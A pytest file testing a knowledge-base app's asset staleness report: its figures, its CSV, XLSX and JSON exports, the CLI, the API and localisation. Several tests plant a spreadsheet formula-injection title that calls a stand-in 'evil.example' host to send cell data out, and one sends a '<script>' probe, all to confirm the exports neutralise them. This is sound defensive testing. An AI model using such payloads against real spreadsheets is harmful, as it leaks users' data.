"""The staleness report: figures from a known fixture against hand-computed numbers, its formats, CLI and API."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date, timedelta

import pytest
from click.testing import CliRunner
from sqlalchemy import event, update

from conftest import SECRET_KEY
from kb import accounts, feedback, reports
from kb.cli import main
from kb.models import Asset, AssetVersion, ExtractionStatus
from publishing_helpers import fields, publisher_for, text_upload, worker_for

TODAY = date.today()


@pytest.fixture
def library(app, db, make_user):
    """Five published assets, a draft and an archived one, with review dates and flags set by hand.

    Мария owns: «Каталог A» (fresh, review in 60 days), «Прайс B» (overdue 40 days, 2 open flags → flagged),
    «=Формула» (overdue 5 days, no text). Андрей owns: «Deck C» (review due in 10 days), «Шаблон D» (overdue
    100 days). The draft and the archived asset (overdue) are left out.
    """
    maria = make_user("marketing", display_name="Мария")
    andrei = make_user("marketing", display_name="Андрей")
    sales = [make_user("sales"), make_user("sales")]
    publisher = publisher_for(app)

    def publish(owner, title, kind, product, segments, review_in, status="published", text="текст"):
        created = publisher.create_asset(
            owner.id,
            fields(owner, title=title, kind=kind, product=product, segments=segments),
            text_upload(text, filename=f"{abs(hash(title))}.md"),
            status=status,
        )
        with db.transaction() as session:
            session.execute(
                update(Asset)
                .where(Asset.id == created.asset_id)
                .values(next_review_on=TODAY + timedelta(days=review_in))
            )
        return created.asset_id

    ids = {
        "A": publish(maria, "Каталог A", "catalog", "Насосы", ["B2B"], 60),
        "B": publish(maria, "Прайс B", "catalog", "Насосы", ["B2B", "B2G"], -40),
        "F": publish(maria, "=Формула", "presentation", "Насосы", ["B2C"], -5, text="скан"),
        "C": publish(andrei, "Deck C", "presentation", "KX", ["B2B"], 10),
        "D": publish(andrei, "Шаблон D", "tender_template", "KX", ["B2G"], -100),
        "draft": publish(andrei, "Черновик", "catalog", "KX", ["B2B"], -300, status="draft"),
    }
    ids["archived"] = publish(andrei, "Архив", "catalog", "KX", ["B2B"], -300)
    worker_for(app).run_until_idle()
    publisher.set_status(andrei.id, ids["archived"], "archived")
    feedback.raise_flag(db, sales[0].id, ids["B"], "prices_outdated")
    feedback.raise_flag(db, sales[1].id, ids["B"], "specs_wrong")
    with db.transaction() as session:  # «=Формула» had no extractable text
        session.execute(
            update(AssetVersion)
            .where(AssetVersion.asset_id == ids["F"])
            .values(extraction_status=ExtractionStatus.EMPTY)
        )
    return maria, andrei, ids


def test_figures_match_the_hand_computed_ones(db, library) -> None:
    maria, andrei, ids = library
    with db.session() as session:
        report = reports.staleness(session, TODAY)
    assert report.tiles == {
        "published": 5,
        "fresh": 1,
        "review_due": 1,
        "overdue": 2,
        "flagged": 1,
        "without_text": 1,
    }
    assert report.fresh_share == 0.2
    # Worst first: flagged, then overdue by days, then review due, then fresh.
    assert [r.title for r in report.rows] == ["Прайс B", "Шаблон D", "=Формула", "Deck C", "Каталог A"]
    assert [r.days_overdue for r in report.rows] == [40, 100, 5, 0, 0]
    owners = {b.label: b for b in report.by_owner}
    assert owners["Мария"].counts == {"fresh": 1, "review_due": 0, "overdue": 1, "flagged": 1}
    assert (owners["Мария"].total, owners["Мария"].oldest_overdue_days, owners["Мария"].open_flags) == (3, 40, 2)
    assert owners["Андрей"].counts == {"fresh": 0, "review_due": 1, "overdue": 1, "flagged": 0}
    assert (owners["Андрей"].total, owners["Андрей"].oldest_overdue_days, owners["Андрей"].open_flags) == (2, 100, 0)
    assert [b.label for b in report.by_owner] == ["Мария", "Андрей"]  # two stale against one
    segments = {b.key: b.total for b in report.by_segment}
    assert segments == {"B2B": 3, "B2G": 2, "B2C": 1}
    assert {b.key: b.total for b in report.by_kind} == {"catalog": 2, "presentation": 2, "tender_template": 1}

    with db.session() as session:
        mine = reports.staleness(session, TODAY, reports.ReportFilters(owner_id=andrei.id))
        b2g = reports.staleness(session, TODAY, reports.ReportFilters(segment="B2G", freshness="overdue"))
    assert mine.tiles["published"] == 2 and mine.fresh_share == 0.0
    assert [r.title for r in b2g.rows] == ["Шаблон D"]


def test_a_fixed_number_of_queries_whatever_the_library_size(app, db, library) -> None:
    statements: list[str] = []

    def count(*args):  # type: ignore[no-untyped-def]
        statements.append(args[2])

    event.listen(db.engine, "before_cursor_execute", count)
    try:
        with db.session() as session:
            reports.staleness(session, TODAY)
        small = len(statements)
        maria = library[0]
        for n in range(20):
            publisher_for(app).create_asset(maria.id, fields(maria, title=f"Доп {n}"), text_upload(f"доп {n}"))
        statements.clear()
        with db.session() as session:
            assert reports.staleness(session, TODAY).tiles["published"] == 25
        assert len(statements) == small
    finally:
        event.remove(db.engine, "before_cursor_execute", count)


def test_csv_parses_back_with_cyrillic_and_no_formulas(db, library) -> None:
    with db.session() as session:
        report = reports.staleness(session, TODAY)
    rows = list(csv.DictReader(io.StringIO(reports.to_csv(report))))
    assert [r["title"] for r in rows] == ["Прайс B", "Шаблон D", "'=Формула", "Deck C", "Каталог A"]
    assert rows[0]["owner"] == "Мария" and rows[0]["freshness"] == "flagged" and rows[0]["open_flags"] == "2"
    assert rows[0]["segments"] == "B2B, B2G" and rows[2]["has_text"] == "no"


def test_cli_formats(db, library, instance_dir, monkeypatch) -> None:
    maria, _andrei, _ids = library
    monkeypatch.setenv("KB_INSTANCE_DIR", str(instance_dir))
    monkeypatch.setenv("KB_DATABASE_URL", f"sqlite:///{instance_dir / 'kb.sqlite3'}")
    monkeypatch.setenv("KB_SECRET_KEY", SECRET_KEY)
    runner = CliRunner()
    md = runner.invoke(main, ["report", "staleness"])
    assert md.exit_code == 0, md.output
    assert "Published 5 · fresh 1 (20%) · review due 1 · overdue 2 · flagged 1 · without text 1" in md.output
    assert "| Мария | 3 | 1 | 0 | 1 | 1 | 40 | 2 |" in md.output
    as_json = json.loads(runner.invoke(main, ["report", "staleness", "--format", "json"]).output)
    assert as_json["tiles"]["published"] == 5 and as_json["assets"][0]["title"] == "Прайс B"
    as_csv = runner.invoke(main, ["report", "staleness", "--format", "csv", "--owner", maria.email]).output
    assert len(list(csv.DictReader(io.StringIO(as_csv)))) == 3
    unknown = runner.invoke(main, ["report", "staleness", "--owner", "nobody@example.com"])
    assert unknown.exit_code == 2 and "no user with the e-mail" in unknown.output
    bad = runner.invoke(main, ["report", "staleness", "--format", "pdf"])
    assert bad.exit_code == 2


def test_api_json_csv_filters_and_access(client, db, make_user, library) -> None:
    _maria, andrei, _ids = library
    sales = make_user("sales")
    headers = {"Authorization": f"Bearer {accounts.create_token(db, sales.id, 'crm').secret}"}
    assert client.get("/api/v1/reports/staleness").status_code == 401
    body = client.get("/api/v1/reports/staleness", headers=headers).json
    assert body["tiles"]["flagged"] == 1 and body["fresh_share"] == 0.2
    assert body["by_owner"][0]["label"] == "Мария" and body["by_owner"][0]["overdue"] == 1
    filtered = client.get(f"/api/v1/reports/staleness?owner={andrei.id}&kind=tender_template", headers=headers).json
    assert [a["title"] for a in filtered["assets"]] == ["Шаблон D"]
    for query, field in (("owner=abc", "owner"), ("kind=poster", "kind"), ("freshness=stale", "freshness")):
        bad = client.get(f"/api/v1/reports/staleness?{query}", headers=headers)
        assert bad.status_code == 400 and bad.json["error"]["field"] == field
    exported = client.get("/api/v1/reports/staleness.csv", headers=headers)
    assert exported.status_code == 200 and exported.mimetype == "text/csv"
    assert "attachment" in exported.headers["Content-Disposition"]
    data = exported.get_data()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0]["title"] == "Прайс B" and len(rows) == 5


def test_report_page_numbers_link_to_their_lists_and_export_xlsx(client, auth, make_user, library) -> None:
    from openpyxl import load_workbook

    maria, _andrei, _ids = library
    sales = make_user("sales")
    auth.login(sales.email)  # a read-only summary for sales: the same figures, no actions
    page = client.get("/reports/staleness")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "20%" in html and "Мария" in html
    assert f'href="/reports/staleness?owner={maria.id}&amp;freshness=flagged#list"' in html
    filtered = client.get(f"/reports/staleness?owner={maria.id}&freshness=flagged").get_data(as_text=True)
    assert "Прайс B" in filtered and "Каталог A" not in filtered.split('id="list"')[1]
    bad = client.get("/reports/staleness?kind=<script>")
    assert bad.status_code == 400 and "<script>" not in bad.get_data(as_text=True)

    exported = client.get("/reports/staleness.xlsx")
    assert exported.status_code == 200
    sheet = load_workbook(io.BytesIO(exported.get_data()), read_only=True).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:2] == ("Number", "Asset")
    assert [r[1] for r in rows[1:]] == ["Прайс B", "Шаблон D", "=Формула", "Deck C", "Каталог A"]
    assert rows[1][rows[0].index("Next review")].date() == TODAY - timedelta(days=40)


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Прайс")'


def _evil_title(db, asset_id: int) -> None:
    with db.transaction() as session:
        session.execute(update(Asset).where(Asset.id == asset_id).values(title=EVIL))


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: Excel reads the Cyrillic right
    text = data.decode("utf-8-sig")
    delimiter = ";" if text.split("\r\n", 1)[0].count(";") else ","
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def test_the_page_csv_speaks_the_readers_language_with_the_delimiter_their_excel_expects(
    client, auth, db, make_user, library
) -> None:
    maria, _andrei, ids = library
    _evil_title(db, ids["F"])
    russian = make_user("sales", preferred_language="ru")
    auth.login(russian.email)
    page = client.get("/reports/staleness?kind=catalog&endpoint=x").get_data(as_text=True)
    assert 'href="/reports/staleness.csv?kind=catalog"' in page  # only the filters travel into the links
    assert 'href="/reports/staleness.csv?delimiter=,&amp;kind=catalog"' in page  # and the other delimiter

    response = client.get("/reports/staleness.csv")
    assert response.get_data().decode("utf-8-sig").split("\r\n", 1)[0].count(";") == 12
    header, *rows = _csv(response)
    assert header == [
        "Номер", "Материал", "Тип", "Продукт", "Сегменты", "Ответственный", "Версия", "Последняя версия",
        "Следующая проверка", "Актуальность", "Просрочка, дней", "Открытые отметки", "Текст для поиска",
    ]  # fmt: skip
    first = dict(zip(header, rows[0], strict=True))
    assert first["Материал"] == "Прайс B" and first["Тип"] == "Каталог" and first["Актуальность"] == "есть отметки"
    assert first["Текст для поиска"] == "да" and first["Сегменты"] == "B2B, B2G" and first["Ответственный"] == "Мария"
    assert first["Следующая проверка"] == (TODAY - timedelta(days=40)).isoformat()
    evil = next(r for r in rows if r[0] == str(ids["F"]))
    assert evil[1] == "'" + EVIL and evil[12] == "нет"  # a formula shown as text, never run

    commas = client.get("/reports/staleness.csv?delimiter=,&freshness=flagged")
    assert _csv(commas)[0][0] == "Номер" and len(_csv(commas)) == 2
    bad = client.get("/reports/staleness.csv?delimiter=|")
    assert bad.status_code == 400 and "Разделитель" in bad.get_data(as_text=True)

    auth.logout()
    english = make_user("sales", preferred_language="en")
    auth.login(english.email)
    assert 'href="/reports/staleness.csv?delimiter=;"' in client.get("/reports/staleness").get_data(as_text=True)
    header, *rows = _csv(client.get("/reports/staleness.csv"))
    assert header[:3] == ["Number", "Asset", "Kind"] and header[-1] == "Searchable text"
    assert rows[0][2] == "Catalog" and rows[0][9] == "flagged" and rows[0][12] == "yes"
    assert len(_csv(client.get(f"/reports/staleness.csv?delimiter=;&owner={maria.id}"))) == 4


def test_the_page_xlsx_is_ready_to_work_with(client, auth, db, make_user, library) -> None:
    from openpyxl import load_workbook

    _maria, _andrei, ids = library
    _evil_title(db, ids["F"])
    with db.transaction() as session:
        session.execute(update(Asset).where(Asset.id == ids["A"]).values(title="Каталог A " + "очень длинный " * 9))
    auth.login(make_user("sales", preferred_language="ru").email)
    exported = client.get("/reports/staleness.xlsx")
    assert exported.status_code == 200
    book = load_workbook(io.BytesIO(exported.get_data()))
    sheet = book.active
    assert sheet.title == "Отчёт об актуальности"
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:M6"
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["Номер", "Материал", "Тип", "Продукт"] and all(c.font.b for c in sheet[1])
    widths = {column: sheet.column_dimensions[column].width for column in "ABCDEFGHIJKLM"}
    assert widths["B"] == reports.MAX_COLUMN_WIDTH  # the longest title is longer: capped
    assert widths["A"] == len("Номер") + 2 and widths["H"] == len("Последняя версия") + 2  # the header, a margin
    assert widths["F"] == len("Ответственный") + 2 and widths["E"] == len("Сегменты") + 2
    assert widths["C"] == len("Шаблон тендерной документации") + 2 and widths["J"] == len("пора проверить") + 2

    by_id = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert set(by_id) == {ids[k] for k in "ABFCD"}  # numbers are numbers
    price = by_id[ids["B"]]
    assert price[1].hyperlink.target == f"http://localhost/assets/{ids['B']}"
    assert price[2].value == "Каталог" and price[9].value == "есть отметки" and price[12].value == "да"
    assert price[8].is_date and price[8].value.date() == TODAY - timedelta(days=40)
    assert price[8].number_format == price[7].number_format == "dd.mm.yyyy"
    assert price[10].value == 40 and price[11].value == 2 and price[6].value == 1
    evil = by_id[ids["F"]]
    assert evil[1].value == EVIL and evil[1].data_type == "s"  # the title as typed, as text
    assert evil[1].hyperlink.target == f"http://localhost/assets/{ids['F']}"
    with zipfile.ZipFile(io.BytesIO(exported.get_data())) as package:
        assert "<f>" not in package.read("xl/worksheets/sheet1.xml").decode()  # no formula anywhere

    auth.logout()
    auth.login(make_user("sales", preferred_language="en").email)
    english = load_workbook(io.BytesIO(client.get("/reports/staleness.xlsx?kind=catalog").get_data())).active
    assert english.title == "Staleness report" and english.auto_filter.ref == "A1:M3"
    assert [c.value for c in english[1]][-1] == "Searchable text" and english["J2"].value == "flagged"
    assert english["I2"].number_format == "yyyy-mm-dd"


def test_the_api_keeps_the_codes_and_a_comma(client, db, make_user, library) -> None:
    _maria, _andrei, ids = library
    _evil_title(db, ids["F"])
    user = make_user("sales", preferred_language="ru")
    headers = {"Authorization": f"Bearer {accounts.create_token(db, user.id, 'crm').secret}", "Accept-Language": "ru"}
    header, *rows = _csv(client.get("/api/v1/reports/staleness.csv", headers=headers))
    assert tuple(header) == reports.COLUMNS
    first = dict(zip(header, rows[0], strict=True))
    assert (first["kind"], first["freshness"], first["has_text"]) == ("catalog", "flagged", "yes")
    assert next(r for r in rows if r[0] == str(ids["F"]))[1] == "'" + EVIL
    semicolons = client.get("/api/v1/reports/staleness.csv?delimiter=;", headers=headers)
    assert semicolons.get_data().decode("utf-8-sig").startswith("asset_id;title;kind;")
    bad = client.get("/api/v1/reports/staleness.csv?delimiter=tab", headers=headers)
    assert bad.status_code == 400 and bad.json["error"]["field"] == "delimiter"
    body = client.get("/api/v1/reports/staleness", headers=headers).json
    assert body["assets"][0]["freshness"] == "flagged" and body["assets"][0]["kind"] == "catalog"
    assert next(a for a in body["assets"] if a["asset_id"] == ids["F"])["title"] == EVIL  # JSON is data, as typed


def test_fresh_share_trend_is_rebuilt_from_history(app, db, make_user) -> None:
    from datetime import UTC, datetime, time

    owner = make_user("marketing")
    sales = make_user("sales")
    publisher = publisher_for(app)

    def days_ago(n: int) -> datetime:
        return datetime.combine(TODAY - timedelta(days=n), time(9), tzinfo=UTC)

    # X: a catalog (90-day reviews) published 100 days ago; Y: a presentation (180 days) 20 days ago, flagged today.
    publisher.create_asset(
        owner.id, fields(owner, title="X", kind="catalog"), text_upload("x", "x.md"), published_at=days_ago(100)
    )
    y = publisher.create_asset(
        owner.id, fields(owner, title="Y", kind="presentation"), text_upload("y", "y.md"), published_at=days_ago(20)
    )
    feedback.raise_flag(db, sales.id, y.asset_id, "specs_wrong")
    with db.session() as session:
        trend = reports.fresh_trend(session, TODAY, weeks=6)
    # X's review falls 10 days ago: fresh until 14 days before it, then due, then overdue.
    assert [p.week_ending for p in trend] == [TODAY - timedelta(days=7 * n) for n in (5, 4, 3, 2, 1, 0)]
    assert [(p.published, p.fresh) for p in trend] == [(1, 1), (1, 1), (1, 0), (2, 1), (2, 1), (2, 0)]
    assert [p.share for p in trend] == [1.0, 1.0, 0.0, 0.5, 0.5, 0.0]


def test_a_tile_is_red_only_when_its_count_is_not_zero(app, signed_in, client, db) -> None:
    user = signed_in("marketing")
    published = publisher_for(app).create_asset(user.id, fields(user), text_upload("# Прайс\n\nЦены"))
    page = client.get("/reports/staleness").get_data(as_text=True)
    assert 'class="tile tile-overdue"' not in page and 'class="tile tile-flagged"' not in page  # 0 is no alarm
    with db.transaction() as session:
        session.execute(
            update(Asset).where(Asset.id == published.asset_id).values(next_review_on=date.today() - timedelta(days=3))
        )
    page = client.get("/reports/staleness").get_data(as_text=True)
    assert 'class="tile tile-overdue"' in page and 'class="tile tile-flagged"' not in page
